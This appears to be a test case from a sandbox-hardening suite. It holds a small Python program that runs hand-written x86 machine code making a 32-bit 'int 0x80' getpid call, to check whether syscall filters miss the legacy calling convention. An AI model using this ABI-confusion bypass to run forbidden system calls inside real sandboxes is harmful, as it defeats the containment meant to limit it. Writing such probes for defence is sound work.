"""Makes a system call the way 32-bit programs do, whose numbers mean something else: filters that do not look allow it."""

from hostile import Attack, Tier

PROGRAM = """
import ctypes, mmap
def f(x):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex("53 b814000000 cd80 5b c3"))
    code = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    import os
    return 2 if code() == os.getpid() else 0
"""

ATTACK = Attack(PROGRAM, tier=Tier.WEAK, needs="a kernel that runs 32-bit programs of Intel")
